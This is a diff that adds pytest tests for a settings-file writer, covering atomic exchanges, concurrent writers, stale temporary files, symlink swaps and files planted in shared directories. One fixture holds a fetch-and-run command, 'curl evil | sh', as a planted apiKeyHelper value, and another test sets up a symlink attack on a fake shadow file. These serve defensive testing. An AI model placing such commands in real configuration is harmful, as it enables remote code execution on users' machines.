@@ -4,8 +4,13 @@
 
 from __future__ import annotations
 
+import fcntl
+import json
 import os
+import random
+import signal
 import stat
+import time
 
 import pytest
 
@@ -248,3 +253,330 @@ def test_parse_mode(value, expected):
 def test_parse_mode_rejects(value):
     with pytest.raises(ValueError):
         parse_mode(value)
+
+
+# --- hardening (issue 11): temporary files, concurrent writers, shared directories --------------------------
+
+def temp_files(directory):
+    return sorted(name for name in os.listdir(str(directory)) if name.endswith('.tmp'))
+
+
+def exchange_hook(monkeypatch, before_exchange):
+    """Run before_exchange(call number) just before each atomic exchange of ManagedFile."""
+    real = _fs._RENAMER.exchange
+    calls = []
+
+    def exchange(dir_fd, src, dst):
+        calls.append(src)
+        before_exchange(len(calls))
+        return real(dir_fd, src, dst)
+    monkeypatch.setattr(_fs._RENAMER, 'exchange', exchange)
+    return calls
+
+
+def atomic_write(path, data):
+    tmp = str(path) + '.other-program'
+    with open(tmp, 'wb') as handle:
+        handle.write(data)
+    os.replace(tmp, str(path))
+
+
+def test_renameat2_exchanges_through_libc_and_raw_syscall(tmp_path):
+    for renamer in (_fs._Renamer(), _fs._Renamer(use_wrapper=False)):
+        (tmp_path / 'a').write_bytes(b'A')
+        (tmp_path / 'b').write_bytes(b'B')
+        fd = os.open(str(tmp_path), os.O_RDONLY)
+        try:
+            assert renamer.exchange(fd, 'a', 'b')
+            assert renamer.noreplace(fd, 'a', 'c')
+            with pytest.raises(FileExistsError):
+                renamer.noreplace(fd, 'c', 'b')
+        finally:
+            os.close(fd)
+        assert (tmp_path / 'b').read_bytes() == b'A' and (tmp_path / 'c').read_bytes() == b'B'
+        for name in ('b', 'c'):
+            (tmp_path / name).unlink()
+
+
+def test_write_just_before_the_exchange_is_merged(tmp_path, monkeypatch):
+    """A program that renames its version in microseconds before ours: its key is kept (it comes out of the exchange)."""
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'A\n')
+    exchange_hook(monkeypatch, lambda n: n == 1 and atomic_write(target, b'A\nB-theirs\n'))
+    result = managed(target).update(append_render(b'C-ours\n'))
+    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
+    assert result['before'] == b'A\nB-theirs\n' and result['after'] == b'A\nB-theirs\nC-ours\n'
+    assert temp_files(tmp_path) == []
+
+
+def test_in_place_write_just_before_the_exchange_is_merged(tmp_path, monkeypatch):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'A\n')
+    exchange_hook(monkeypatch, lambda n: n == 1 and target.write_bytes(b'A\nB-theirs\n'))
+    managed(target).update(append_render(b'C-ours\n'))
+    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
+    assert temp_files(tmp_path) == []
+
+
+def test_fallback_without_exchange_still_checks_just_before_the_rename(tmp_path, monkeypatch):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'A\n')
+    monkeypatch.setattr(_fs._RENAMER, 'call', None)
+    real = _fs._unchanged
+    checks = []
+
+    def unchanged(loc, state):
+        checks.append(state)
+        if len(checks) == 1:  # the other program writes just before our check
+            atomic_write(target, b'A\nB-theirs\n')
+        return real(loc, state)
+    monkeypatch.setattr(_fs, '_unchanged', unchanged)
+    managed(target).update(append_render(b'C-ours\n'))
+    assert target.read_bytes() == b'A\nB-theirs\nC-ours\n'
+    assert temp_files(tmp_path) == []
+
+
+def test_endless_concurrent_writes_fail_clearly_and_keep_theirs(tmp_path, monkeypatch):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'v0\n')
+    written = []
+
+    def write_before_each_new_temp_goes_in(n):
+        if calls[-1] not in calls[:-1]:  # not the exchange that puts their version back
+            written.append(b'v%d\n' % n)
+            atomic_write(target, written[-1])
+    calls = exchange_hook(monkeypatch, write_before_each_new_temp_goes_in)
+    with pytest.raises(UnsafePathError, match='kept changing while being written'):
+        managed(target).update(append_render(b'ours\n'))
+    assert len(written) == _fs._MAX_WRITE_ATTEMPTS
+    assert target.read_bytes() == written[-1]  # their last version, not ours on top of an old one
+    assert temp_files(tmp_path) == []
+
+
+def fake_reads(monkeypatch, first_contents):
+    """The first reads of the target see first_contents (a file being rewritten in place), then the real file."""
+    real = _fs.read_at
+    queue = list(first_contents)
+
+    def read_at(loc, max_size=_fs.MAX_FILE_SIZE):
+        state = real(loc, max_size)
+        if queue and state is not None:
+            data = queue.pop(0)
+            return state._replace(data=data, ctime_ns=len(queue))
+        return state
+    monkeypatch.setattr(_fs, 'read_at', read_at)
+
+
+@pytest.mark.parametrize('seen', [[b''], [b'', b'{"a": 1'], [b'{"a"']], ids=['empty', 'empty-then-partial', 'partial'])
+def test_empty_or_partial_read_of_a_changing_file_is_retried(tmp_path, monkeypatch, seen):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'{"a": 1}')
+    fake_reads(monkeypatch, seen)
+    calls = []
+
+    def render(data):
+        calls.append(data)
+        value = json.loads(data or b'{}')  # empty counts as {} here, as it does for settings files
+        value['b'] = 2
+        return json.dumps(value).encode()
+    managed(target).update(render)
+    assert json.loads(target.read_bytes()) == {'a': 1, 'b': 2}
+
+
+def test_empty_file_that_holds_still_is_used(tmp_path):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'')
+    managed(target).update(lambda data: data + b'x')
+    assert target.read_bytes() == b'x'
+
+
+def test_invalid_file_that_holds_still_is_an_error_and_untouched(tmp_path):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'{"a"')
+
+    def render(data):
+        raise ValueError('not valid JSON')
+    with pytest.raises(ValueError, match='not valid JSON'):
+        managed(target).update(render)
+    assert target.read_bytes() == b'{"a"' and temp_files(tmp_path) == []
+
+
+def test_file_that_never_holds_still_is_an_error(tmp_path, monkeypatch):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'{}')
+    fake_reads(monkeypatch, [b''] * 100)
+    monkeypatch.setattr(_fs, '_SETTLE_PAUSE', 0)
+    with pytest.raises(UnsafePathError, match='kept changing'):
+        managed(target).update(lambda data: data + b'x')
+    assert target.read_bytes() == b'{}'
+
+
+def write_stale(directory, name='settings.json', uid=None, content=b'{"token": "sk-ant-stale"}'):
+    path = directory / ('.%s.%s.tmp' % (name, '0123456789ab'))
+    path.write_bytes(content)
+    if uid is not None:
+        os.chown(str(path), uid, uid)
+    return path
+
+
+def test_stale_temp_file_of_a_killed_run_is_removed(tmp_path):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'x')
+    os.chmod(str(target), 0o600)
+    stale = write_stale(tmp_path)
+    unrelated = tmp_path / '.other.json.0123456789ab.tmp'
+    unrelated.write_bytes(b'not ours')
+    result = managed(target).update(lambda data: data)  # no change: housekeeping still happens
+    assert not result['changed'] and result['stale_removed'] == [str(stale)]
+    assert not stale.exists() and unrelated.exists()
+    assert managed(target).update(lambda data: data, check_mode=True)['stale_removed'] == []
+
+
+def test_remove_also_removes_stale_temp_files(tmp_path):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'x')
+    stale = write_stale(tmp_path)
+    assert managed(target).remove()['stale_removed'] == [str(stale)]
+    assert os.listdir(str(tmp_path)) == []
+
+
+def test_temp_file_of_a_live_writer_is_kept(tmp_path):
+    """A live writer holds a shared lock on the directory: its temporary file is not stale."""
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'x')
+    live = write_stale(tmp_path)
+    fd = os.open(str(tmp_path), os.O_RDONLY)
+    try:
+        fcntl.flock(fd, fcntl.LOCK_SH)
+        assert managed(target).update(append_render(b'y'))['stale_removed'] == []
+        assert live.exists() and target.read_bytes() == b'xy'
+    finally:
+        os.close(fd)
+    managed(target).update(append_render(b'z'))
+    assert not live.exists()
+
+
+@needs_root
+def test_stale_temp_file_of_another_owner_is_kept(tmp_path, home):
+    target = home / 'settings.json'
+    ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: b'x')
+    theirs = write_stale(home, uid=NOBODY + 1)
+    theirs.rename(home / '.settings.json.ba9876543210.tmp')
+    theirs = home / '.settings.json.ba9876543210.tmp'
+    ours = write_stale(home, uid=NOBODY)
+    ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: data)
+    assert theirs.exists() and not ours.exists()
+
+
+def test_no_temp_files_accumulate_after_kill_9(tmp_path):
+    """100 writers killed with SIGKILL at random points; the next run leaves no temporary file of ours."""
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'0\n')
+    rng = random.Random(11)
+    left_by_kills = 0
+    for cycle in range(100):
+        pid = os.fork()
+        if pid == 0:  # pragma: no cover - the child is killed
+            try:
+                for dummy in range(1000):
+                    ManagedFile(str(target), 0o600).update(lambda data: data[-2000:] + b'%d\n' % rng.random())
+            finally:
+                os._exit(0)
+        time.sleep(rng.uniform(0, 0.004))
+        os.kill(pid, signal.SIGKILL)
+        os.waitpid(pid, 0)
+        assert target.read_bytes().endswith(b'\n')  # old or new content, never a torn one
+        result = managed(target).update(append_render(b'%d\n' % cycle))
+        left_by_kills += len(result['stale_removed'])
+        assert temp_files(tmp_path) == []
+    assert left_by_kills > 0  # some kills did hit a write in progress
+
+
+@needs_root
+def test_link_swapped_in_during_the_write_is_put_back_and_nothing_is_left(tmp_path, home, monkeypatch):
+    victim = tmp_path / 'shadow'
+    victim.write_bytes(b'root:secret\n')
+    target = home / 'settings.json'
+    target.write_bytes(b'{}')
+
+    def swap(n):
+        if n > 1:
+            return
+        target.unlink()
+        target.symlink_to(str(victim))
+    exchange_hook(monkeypatch, swap)
+    with pytest.raises(UnsafePathError, match='symlink'):
+        ManagedFile(str(target), 0o600, NOBODY, NOBODY).update(lambda data: b'{"token": "sk-ant-x"}')
+    assert target.is_symlink() and victim.read_bytes() == b'root:secret\n'
+    assert temp_files(home) == []
+
+
+@needs_root
+def test_directory_swapped_in_during_the_write_is_put_back(tmp_path, home, monkeypatch):
+    target = home / 'settings.json'
+    target.write_bytes(b'{}')
+
+    def swap(n):
+        if n > 1:
+            return
+        target.unlink()
+        target.mkdir()
+        (target / 'inside').write_bytes(b'keep')
+    exchange_hook(monkeypatch, swap)
+    with pytest.raises(UnsafePathError, match='not a regular file'):
+        managed(target).update(lambda data: b'{"token": "sk-ant-x"}')
+    assert (target / 'inside').read_bytes() == b'keep'
+    assert temp_files(home) == []
+
+
+def test_temp_file_removed_when_render_fails_on_a_concurrent_write(tmp_path, monkeypatch):
+    target = tmp_path / 'settings.json'
+    target.write_bytes(b'ok')
+
+    def render(data):
+        if data != b'ok':
+            raise ValueError('cannot merge %r' % data)
+        return b'ok+ours'
+    exchange_hook(monkeypatch, lambda n: atomic_write(target, b'broken'))
+    with pytest.raises(ValueError, match='cannot merge'):
+        managed(target).update(render)
+    assert target.read_bytes() == b'broken'  # theirs, put back; ours was based on a version that is gone
+    assert temp_files(tmp_path) == []
+
+
+@needs_root
+def test_file_planted_in_a_shared_directory_is_refused(tmp_path):
+    shared = tmp_path / 'tmp'
+    shared.mkdir()
+    os.chmod(str(shared), 0o1777)
+    planted = shared / 'settings.json'
+    planted.write_bytes(b'{"apiKeyHelper": "curl evil | sh"}')
+    os.chown(str(planted), NOBODY, NOBODY)
+    with pytest.raises(UnsafePathError, match='belongs to nobody .* writable by every user'):
+        ManagedFile(str(planted), 0o600, NOBODY + 1, NOBODY + 1).update(lambda data: data + b' ')
+    assert planted.read_bytes() == b'{"apiKeyHelper": "curl evil | sh"}'
+    with pytest.raises(UnsafePathError, match='belongs to nobody'):
+        ManagedFile(str(planted), 0o600).remove()
+    assert planted.exists()
+    # the target user's own file, or root's, is fine there
+    assert ManagedFile(str(planted), 0o600, NOBODY, NOBODY).update(lambda data: b'{}')['changed']
+    # and a file of another user in a directory only root can write is not "planted"
+    private = tmp_path / 'private'
+    private.mkdir()
+    os.chmod(str(private), 0o755)
+    (private / 'settings.json').write_bytes(b'{}')
+    os.chown(str(private / 'settings.json'), NOBODY, NOBODY)
+    assert ManagedFile(str(private / 'settings.json'), 0o600).update(lambda data: b'{"a": 1}')['changed']
+
+
+def test_results_come_from_what_was_written(tmp_path, monkeypatch):
+    """The outcome describes what this call wrote, even when the file is replaced right after."""
+    target = tmp_path / 'settings.json'
+    real = _fs._fsync_dir
+
+    def fsync_then_swap(loc):
+        real(loc)
+        atomic_write(target, b'someone else')
+    monkeypatch.setattr(_fs, '_fsync_dir', fsync_then_swap)
+    result = ManagedFile(str(target), 0o640).update(lambda data: b'ours')
+    assert result['after'] == b'ours' and result['mode'] == 0o640 and result['path'] == str(target)
